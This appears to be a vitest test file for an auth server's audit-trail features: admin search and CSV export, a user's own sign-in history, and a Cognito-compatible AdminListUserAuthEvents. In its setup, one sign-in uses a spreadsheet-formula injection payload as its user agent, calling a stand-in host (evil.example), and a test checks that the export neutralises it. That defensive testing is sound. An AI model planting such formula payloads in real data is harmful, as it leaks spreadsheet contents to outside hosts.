// Reading the audit trail: the admin search and its CSV export (Admins only), a user's own recent
// sign-ins (their own only), and AdminListUserAuthEvents in Cognito's shape through the AWS SDK v3
// and over HTTP.
import { AdminListUserAuthEventsCommand, CognitoIdentityProviderClient } from '@aws-sdk/client-cognito-identity-provider';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUTH_TEST_ENV, advance, createTestUser, passwordAuth, respond, session, tokens, totpAt, type TestUser } from '../auth/auth-fixtures.js';
import { BOTH_DATABASES, issueTokensFor, startTestServer, TEST_ADMIN_CREDENTIALS, type TestServer } from '../harness.js';
import { withToken } from './audit-fixtures.js';

interface AuditEventBody {
  seq: string;
  action: string;
  outcome: string;
  at: string;
  actor: { name?: string };
  subject?: { name?: string; sub?: string };
  record?: { id: string };
}

describe.each(BOTH_DATABASES)('reading the audit trail (%s)', (database) => {
  let server: TestServer;
  let admin: string;
  let alice: TestUser;
  let bob: TestUser;
  let sdk: CognitoIdentityProviderClient;

  const signIn = async (user: TestUser, agent: string) => {
    const first = await server.call('InitiateAuth', { AuthFlow: 'USER_PASSWORD_AUTH', ClientId: server.pool.clientId, AuthParameters: { USERNAME: user.username, PASSWORD: user.password } }, { 'user-agent': agent });
    advance(server, 30);
    return tokens(await server.call('RespondToAuthChallenge', { ClientId: server.pool.clientId, ChallengeName: 'SOFTWARE_TOKEN_MFA', Session: session(first), ChallengeResponses: { USERNAME: user.username, SOFTWARE_TOKEN_MFA_CODE: totpAt(server, user.totpSecret ?? '') } }, { 'user-agent': agent }));
  };
  const search = async (query: string, token = admin) => {
    const reply = await withToken(server, token, 'GET', `/admin/audit/events?${query}`);
    return { ...reply, events: (reply.body.events ?? []) as AuditEventBody[], nextToken: reply.body.nextToken as string | null };
  };

  beforeAll(async () => {
    server = await startTestServer({ database, env: AUTH_TEST_ENV });
    admin = (await issueTokensFor(server, 'admin')).AccessToken;
    sdk = new CognitoIdentityProviderClient({ region: 'us-east-1', endpoint: server.url, maxAttempts: 1, credentials: TEST_ADMIN_CREDENTIALS });
    alice = await createTestUser(server, { mfa: 'totp' });
    bob = await createTestUser(server, { mfa: 'totp' });
    // Alice: a wrong password, then two sign-ins from two browsers; Bob: one sign-in.
    await passwordAuth(server, alice.username, 'Not-Her-Passw0rd!');
    await signIn(alice, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36');
    await signIn(alice, '=HYPERLINK("http://evil.example/"&A1,"x")');
    await signIn(bob, 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0');
    // An MFA failure of Alice's.
    const first = await passwordAuth(server, alice.username, alice.password);
    await respond(server, 'SOFTWARE_TOKEN_MFA', session(first), { USERNAME: alice.username, SOFTWARE_TOKEN_MFA_CODE: '000000' });
    expect((await withToken(server, admin, 'POST', '/admin/createUser', { username: 'carol', attributes: { email: 'carol@example.com' }, suppressInvitation: true })).status).toBe(200);
    expect((await withToken(server, admin, 'POST', '/admin/disableUser', { username: 'carol' })).status).toBe(200);
  });
  afterAll(async () => {
    sdk.destroy();
    await server.close();
  });

  it('finds events by user (name or sub, actor or subject), action, outcome and time range, newest first', async () => {
    const byName = await search(`user=${alice.username}`);
    expect(byName.status).toBe(200);
    expect(byName.events.map((e) => `${e.action}:${e.outcome}`)).toEqual(['sign_in:failure', 'sign_in:success', 'sign_in:success', 'sign_in:failure']);
    expect(byName.events.every((e) => e.subject?.sub === alice.sub)).toBe(true);
    expect((await search(`user=${alice.sub.toUpperCase()}`)).events).toHaveLength(4);
    expect((await search('user=admin&action=admin.user')).events.map((e) => e.action)).toEqual(['admin.user.disabled', 'admin.user.created']);
    expect((await search('action=admin')).events).toHaveLength(2);
    expect((await search(`user=${alice.username}&outcome=failure`)).events).toHaveLength(2);
    const all = await search('limit=200');
    const seqs = all.events.map((e) => Number(e.seq));
    expect(seqs).toEqual([...seqs].sort((a, b) => b - a));
    // The time range: only the events at or after the last one's instant.
    const newest = all.events[0]?.at ?? '';
    expect((await search(`from=${encodeURIComponent(newest)}`)).events.every((e) => e.at >= newest)).toBe(true);
    expect((await search(`to=${encodeURIComponent(all.events.at(-1)?.at ?? '')}`)).events).toEqual([]);
    expect((await search('from=2999-01-01')).events).toEqual([]);
  });

  it('pages with nextToken without gaps or repeats', async () => {
    const seen: string[] = [];
    let token: string | null = null;
    do {
      const page = await search(`limit=2${token !== null ? `&nextToken=${token}` : ''}`);
      expect(page.events.length).toBeLessThanOrEqual(2);
      seen.push(...page.events.map((e) => e.seq));
      token = page.nextToken;
    } while (token !== null);
    const all = (await search('limit=200')).events.map((e) => e.seq);
    expect(seen).toEqual(all);
  });

  it('refuses bad input with a typed error, never a 500', async () => {
    for (const query of ['limit=0', 'limit=201', 'limit=x', 'from=yesterday', 'to=2026-13-45', 'nextToken=abc', 'outcome=maybe', `user=${'x'.repeat(300)}`]) {
      const reply = await search(query);
      expect(reply.status, query).toBe(400);
      expect(reply.body.__type, query).toBe('InvalidParameterException');
    }
  });

  // Threat: a signed-in user (or anyone) reading who did what across the whole business.
  it('answers only members of Admins: 401 without a valid token, 403 for anyone else', async () => {
    const staff = (await issueTokensFor(server, 'staff')).AccessToken;
    for (const path of ['/admin/audit/events', '/admin/audit/events.csv']) {
      expect((await withToken(server, null, 'GET', path)).status).toBe(401);
      expect((await withToken(server, 'not-a-token', 'GET', path)).status).toBe(401);
      const refused = await withToken(server, staff, 'GET', path);
      expect(refused.status).toBe(403);
      expect(refused.body.__type).toBe('AccessDeniedException');
    }
  });

  // Threat: CSV injection — a user agent or name an attacker chose, run as a formula by the spreadsheet opening the export.
  it('exports the matching events as CSV, formula cells neutralised', async () => {
    const reply = await withToken(server, admin, 'GET', `/admin/audit/events.csv?user=${alice.username}`);
    expect(reply.status).toBe(200);
    expect(reply.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(reply.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-.*\.csv"$/);
    // fetch's text() drops the byte-order mark; the bytes carry it, for spreadsheets.
    const bytes = Buffer.from(await (await fetch(`${server.url}/admin/audit/events.csv?user=${alice.username}`, { headers: { authorization: admin } })).arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = reply.text.trimEnd().split('\r\n');
    expect(lines[0]).toBe('seq,at,category,action,outcome,actor,actor_sub,subject,subject_sub,record_type,record_id,ip,user_agent,changes,details,hash');
    expect(lines).toHaveLength(5);
    expect(reply.text).toContain(`"'=HYPERLINK(""http://evil.example/""&A1,""x"")"`);
    expect(reply.text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  // Threat: one user reading another's sign-in history (where and when they sign in).
  it("shows a user their own recent sign-ins and nobody else's", async () => {
    const aliceToken = (await issueTokensFor(server, alice.username)).AccessToken;
    const own = await withToken(server, aliceToken, 'GET', `/account/sign-ins?user=${bob.username}&subjectSub=${bob.sub}`);
    expect(own.status).toBe(200);
    const signIns = own.body.signIns as { outcome: string; ip: string; device: string | null; reason: string | null; at: string }[];
    expect(signIns.map((s) => s.outcome)).toEqual(['failure', 'success', 'success', 'failure']);
    expect(signIns[2]).toMatchObject({ ip: '127.0.0.1', device: 'Chrome 126 on Windows', reason: null });
    expect(signIns[3]?.reason).toBe('NotAuthorizedException');
    const bobToken = (await issueTokensFor(server, bob.username)).AccessToken;
    const bobs = (await withToken(server, bobToken, 'GET', '/account/sign-ins')).body.signIns as { device: string }[];
    expect(bobs.map((s) => s.device)).toEqual(['Firefox 128 on Linux']);
    expect((await withToken(server, null, 'GET', '/account/sign-ins')).status).toBe(401);
    expect((await withToken(server, aliceToken, 'GET', '/account/sign-ins?limit=500')).status).toBe(400);
    expect(((await withToken(server, aliceToken, 'GET', '/account/sign-ins?limit=1')).body.signIns as unknown[]).length).toBe(1);
  });

  it("answers AdminListUserAuthEvents in Cognito's shape through the AWS SDK, newest first, paged", async () => {
    const page = await sdk.send(new AdminListUserAuthEventsCommand({ UserPoolId: server.pool.userPoolId, Username: alice.username, MaxResults: 3 }));
    expect(page.AuthEvents).toHaveLength(3);
    const [mfaFailure, success] = page.AuthEvents ?? [];
    expect(mfaFailure).toMatchObject({
      EventType: 'SignIn',
      EventResponse: 'Fail',
      EventRisk: { RiskDecision: 'NoRisk', CompromisedCredentialsDetected: false },
      ChallengeResponses: [
        { ChallengeName: 'Password', ChallengeResponse: 'Success' },
        { ChallengeName: 'Mfa', ChallengeResponse: 'Failure' },
      ],
      EventContextData: { IpAddress: '127.0.0.1' },
    });
    expect(mfaFailure?.CreationDate).toBeInstanceOf(Date);
    expect(mfaFailure?.EventId).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
    expect(success).toMatchObject({ EventResponse: 'Pass', ChallengeResponses: [{ ChallengeName: 'Password', ChallengeResponse: 'Success' }, { ChallengeName: 'Mfa', ChallengeResponse: 'Success' }] });
    expect(page.NextToken).toBeDefined();
    const rest = await sdk.send(new AdminListUserAuthEventsCommand({ UserPoolId: server.pool.userPoolId, Username: alice.username, NextToken: page.NextToken }));
    expect(rest.AuthEvents?.map((e) => e.EventResponse)).toEqual(['Fail']);
    expect(rest.NextToken).toBeUndefined();
    const ids = [...(page.AuthEvents ?? []), ...(rest.AuthEvents ?? [])].map((e) => e.EventId);
    expect(new Set(ids).size).toBe(4);
    // Sign-in by alias or sub, as every operation that takes a username.
    expect((await sdk.send(new AdminListUserAuthEventsCommand({ UserPoolId: server.pool.userPoolId, Username: alice.sub }))).AuthEvents).toHaveLength(4);
  });

  it('refuses AdminListUserAuthEvents for an unknown user, pool or token, and without the admin credential', async () => {
    const errorOf = async (input: { UserPoolId: string; Username: string; NextToken?: string; MaxResults?: number }) => {
      try {
        await sdk.send(new AdminListUserAuthEventsCommand(input));
        return 'no error';
      } catch (error) {
        return (error as { name: string }).name;
      }
    };
    expect(await errorOf({ UserPoolId: server.pool.userPoolId, Username: 'nobody-here' })).toBe('UserNotFoundException');
    expect(await errorOf({ UserPoolId: 'us-east-1_Nope12345', Username: alice.username })).toBe('ResourceNotFoundException');
    expect(await errorOf({ UserPoolId: server.pool.userPoolId, Username: alice.username, NextToken: 'not-a-token' })).toBe('InvalidParameterException');
    expect(await errorOf({ UserPoolId: server.pool.userPoolId, Username: alice.username, MaxResults: 61 })).toBe('InvalidParameterException');
    const unsigned = await server.call('AdminListUserAuthEvents', { UserPoolId: server.pool.userPoolId, Username: alice.username });
    expect(unsigned.status).toBe(403);
    expect(unsigned.body.__type).toBe('MissingAuthenticationTokenException');
  });

  it('answers AdminListUserAuthEvents on the admin API too', async () => {
    const reply = await withToken(server, admin, 'GET', `/admin/listUserAuthEvents?username=${bob.username}`);
    expect(reply.status).toBe(200);
    const events = reply.body.AuthEvents as { EventType: string; EventResponse: string; CreationDate: number; EventContextData: { DeviceName: string } }[];
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ EventType: 'SignIn', EventResponse: 'Pass', EventContextData: { DeviceName: 'Firefox 128 on Linux' } });
    expect(typeof events[0]?.CreationDate).toBe('number');
    expect((await withToken(server, admin, 'GET', '/admin/listUserAuthEvents?username=nobody-here')).body.__type).toBe('UserNotFoundException');
  });
});
